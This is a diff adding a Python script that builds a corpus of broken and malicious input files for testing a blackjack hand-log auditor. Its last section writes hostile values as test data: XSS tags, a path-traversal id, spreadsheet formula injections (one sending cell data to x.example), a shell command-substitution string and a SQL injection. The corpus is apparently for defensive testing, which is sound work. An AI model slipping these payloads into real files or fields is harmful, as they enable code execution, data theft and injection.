@@ -1,0 +1,157 @@
+"""Writes the hostile-input corpus of tests/test_hostile.py (run once; the files are kept).
+
+    .venv/bin/python tests/hostile/make_corpus.py
+
+Every file is small and broken or malicious in one way; ``manifest.toml`` (written by hand)
+records what the auditor must make of each.
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+from pathlib import Path
+
+HERE = Path(__file__).resolve().parent
+FILES = HERE / "files"
+
+HEADER = ["table_id", "round_id", "started_at", "dealer_id", "shoe_id", "dealer_cards", "seat", "hand",
+          "split_from", "cards", "actions", "bet", "double", "insurance", "pool_bet", "net_main",
+          "net_insurance", "pool_paid"]
+
+
+def hand(round_id, minute=0, dealer_id="CR-1", dealer="TH 7C", cards="9S 7D 2C", actions="HS", bet="10.00",
+         net_main="10.00", seat="1", **kw):
+    row = {"table_id": "T1", "round_id": round_id, "started_at": f"2026-11-01T20:{minute:02d}:00-05:00",
+           "dealer_id": dealer_id, "shoe_id": "S1", "dealer_cards": dealer, "seat": seat, "hand": "0",
+           "split_from": "", "cards": cards, "actions": actions, "bet": bet, "double": "0", "insurance": "0",
+           "pool_bet": "0", "net_main": net_main, "net_insurance": "0", "pool_paid": "0"}
+    row.update(kw)
+    return row
+
+
+# Three clean rounds (the second with two seats): 4 records, no finding.
+CLEAN = [hand("R1", 0), hand("R2", 1, cards="9S 7D", actions="S", net_main="-10.00"),
+         hand("R2", 1, seat="2", cards="TD 8C", actions="S", net_main="10.00"), hand("R3", 2)]
+# The dealer drew on a soft 17 in R2 (PLB-DEALER-PLAY, high).
+DEALER_DREW = hand("R2", 1, dealer="AH 6C QD", cards="8S 3D 9C", net_main="10.00")
+
+
+def csv_text(rows, sep=",", header=HEADER, eol="\n", quote_all=False) -> str:
+    def cell(v):
+        v = str(v)
+        if quote_all or any(c in v for c in (sep, '"', "\n", "\r")):
+            return '"' + v.replace('"', '""') + '"'
+        return v
+    lines = [sep.join(cell(h) for h in header)]
+    lines += [sep.join(cell(r.get(h, "")) for h in header) for r in rows]
+    return eol.join(lines) + eol
+
+
+def jsonl_text(rows) -> str:
+    rounds: dict[str, dict] = {}
+    for r in rows:
+        base = {k: r[k] for k in HEADER[:6]}
+        doc = rounds.setdefault(r["round_id"], {"game": "pot-luck-blackjack", **base, "hands": []})
+        hand_fields = {k: r[k] for k in HEADER[6:]}
+        hand_fields["seat"], hand_fields["hand"] = int(hand_fields["seat"]), int(hand_fields["hand"])
+        hand_fields["split_from"] = None
+        doc["hands"].append(hand_fields)
+    return "".join(json.dumps(d, ensure_ascii=False) + "\n" for d in rounds.values())
+
+
+def gz(data: bytes) -> bytes:
+    return gzip.compress(data, mtime=0)  # no timestamp: the corpus is the same at every run
+
+
+def write(name: str, data: bytes | str, encoding="utf-8") -> None:
+    path = FILES / name
+    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
+
+
+def main() -> None:
+    FILES.mkdir(exist_ok=True)
+    for old in FILES.iterdir():
+        old.unlink()
+    clean = csv_text(CLEAN)
+    lines = clean.splitlines(keepends=True)
+    accents = [dict(r, dealer_id="José Peña") for r in CLEAN[:2]] + [DEALER_DREW | {"dealer_id": "Iñigo Muñoz",
+                                                                                  "round_id": "R9", "started_at": "2026-11-01T20:09:00-05:00"}]
+
+    # --- encodings and dialects: all read, no error -------------------------------------
+    write("clean.csv", clean)
+    write("bom_crlf.csv", "\ufeff" + csv_text(CLEAN, eol="\r\n"))
+    write("semicolon_decimal_comma.csv", csv_text([{**r, "bet": r["bet"].replace(".", ","),
+                                                     "net_main": r["net_main"].replace(".", ",")} for r in CLEAN], sep=";"))
+    write("tab_separated.csv", csv_text(CLEAN, sep="\t"))
+    write("pipe_separated.csv", csv_text(CLEAN, sep="|"))
+    write("quoted_everything.csv", csv_text(CLEAN, quote_all=True))
+    write("comma_decimal_quoted.csv", csv_text([{**r, "bet": r["bet"].replace(".", ",")} for r in CLEAN]))
+    write("cp1252_accents.csv", csv_text(accents), encoding="cp1252")
+    write("utf8_accents.csv", csv_text(accents))
+    write("utf16_bom_tab.csv", csv_text(accents, sep="\t"), encoding="utf-16")
+    write("gzip.csv.gz", gz(clean.encode()))
+    write("gzip_two_members.csv.gz", gz("".join(lines[:3]).encode()) + gz("".join(lines[3:]).encode()))
+    write("naive_timestamps.csv", csv_text([{**r, "started_at": r["started_at"][:-6]} for r in CLEAN]))
+    write("rounds_out_of_time_order.csv", csv_text([CLEAN[3], CLEAN[1], CLEAN[2], CLEAN[0]]))
+    write("blank_lines.csv", lines[0] + "\n" + lines[1] + "\r\n\n" + "".join(lines[2:]) + "\n\n")
+    write("extra_columns.csv", csv_text([{**r, "comment": "=cmd|' /C calc'!A0", "tip": "1"} for r in CLEAN],
+                                         header=HEADER + ["comment", "tip"]))
+    write("header_only.csv", lines[0])
+    write("clean.jsonl", jsonl_text(CLEAN))
+    write("cp1252.jsonl", jsonl_text(accents), encoding="cp1252")
+    write("bom_crlf.jsonl.gz", gz(("\ufeff" + jsonl_text(CLEAN).replace("\n", "\r\n")).encode()))
+    write("accents_cp1252.csv.gz", gz(csv_text(accents, sep=";").encode("cp1252")))
+
+    # --- structure errors: the file as a whole cannot be audited (exit 2) ----------------
+    write("empty.csv", b"")
+    write("empty.jsonl", b"")
+    write("blanks_only.csv", "\r\n \n\t\n")
+    write("missing_required_columns.csv", csv_text(CLEAN, header=[h for h in HEADER if h not in ("net_main", "cards")]))
+    write("duplicate_header.csv", csv_text(CLEAN, header=HEADER + ["bet"]))
+    write("unknown_columns.csv", "a,b,c\n1,2,3\n")
+    write("binary_garbage.csv", bytes(range(256)) * 8)
+    write("binary_garbage.jsonl", bytes(reversed(range(256))) * 8)
+    write("not_gzip.csv.gz", clean.encode())
+    write("truncated_gzip.csv.gz", gz(clean.encode() * 20)[:-40])
+    write("garbage.parquet", b"PAR1" + bytes(range(200)) + b"PAR1")
+    write("zip_bomb_ish.csv.gz", gz(lines[0].encode() + b"\x00" * 2_000_000))
+
+    # --- structure errors: rows rejected with file and line ------------------------------
+    write("truncated_last_line.csv", clean[: -len(lines[-1]) + 25])
+    write("unterminated_quote.csv", clean + 'T1,"R4,2026-11-01T20:05:00-05:00\n')
+    write("quoted_newline.csv", "".join(lines[:2]) + lines[2].replace("CR-1", '"CR\n1"') + lines[3] + lines[4])
+    write("unquoted_decimal_comma.csv", "".join(lines[:4]) + lines[4].replace("10.00", "10,00"))
+    write("utf8_cut_mid_character.csv", csv_text(accents).encode()[:-2].rstrip(b"\n") + "ñ".encode()[:1])
+    write("broken_json_lines.jsonl", jsonl_text(CLEAN) + '{"table_id": "T1", "round_id": "R7", \n'
+          + "not json\n" + "[1, 2, 3]\n" + '{"table_id": "T1", "hands": "nope"}\n' + "[" * 5000 + "\n")
+    write("json_wrong_types.jsonl", jsonl_text(CLEAN).replace('"bet": "10.00"', '"bet": {"x": 1}', 1)
+          .replace('"seat": 2', '"seat": true', 1))
+
+    # --- content errors: findings or rejects with reasons --------------------------------
+    write("impossible_cards.csv", csv_text([CLEAN[0], {**CLEAN[1], "cards": "JK 7D"}, CLEAN[2],
+                                            {**CLEAN[3], "dealer_cards": "1X 7C"}]))
+    write("negative_amounts.csv", csv_text([{**CLEAN[0], "bet": "-10.00"}, *CLEAN[1:]]))
+    write("non_numeric_amounts.csv", csv_text([{**CLEAN[0], "bet": "ten"}, CLEAN[1], CLEAN[2],
+                                               {**CLEAN[3], "net_main": "1.000,00"}]))
+    write("duplicated_round_id.csv", csv_text(CLEAN + [CLEAN[0]]))
+    write("duplicated_line.csv", csv_text([CLEAN[0], CLEAN[0], *CLEAN[1:]]))
+    write("bad_timestamps.csv", csv_text([{**CLEAN[0], "started_at": "yesterday"}, CLEAN[1], CLEAN[2],
+                                          {**CLEAN[3], "started_at": "2026-13-45T99:00:00"}]))
+    write("nul_bytes.csv", csv_text([{**CLEAN[0], "dealer_id": "CR\x00-1"}, *CLEAN[1:]]))
+    write("huge_field.csv", csv_text([{**CLEAN[0], "cards": "AS " * 5000}, *CLEAN[1:]]))
+    write("seat_not_a_number.csv", csv_text([{**CLEAN[0], "seat": "1e3"}, *CLEAN[1:]]))
+
+    # --- malicious content: nothing is executed, nothing written elsewhere ----------------
+    evil = [DEALER_DREW | {"dealer_id": "<script>alert(1)</script>", "table_id": "../../etc/passwd",
+                           "round_id": "<img src=x onerror=alert(2)>"},
+            hand("R5", 5, dealer="AH 6C QD", cards="8S 3D 9C", dealer_id='=HYPERLINK("http://x.example/?"&A1,"x")',
+                 table_id="@SUM(1+1)*cmd|' /C calc'!A0"),
+            hand("R6", 6, dealer="AH 6C QD", cards="8S 3D 9C", dealer_id="$(touch /tmp/pwned) `id`",
+                 table_id="+1-1", shoe_id="'; DROP TABLE runs; --")]
+    write("xss_and_formulas.csv", csv_text(evil))
+    write("xss.jsonl", jsonl_text(evil))
+
+
+if __name__ == "__main__":
+    main()
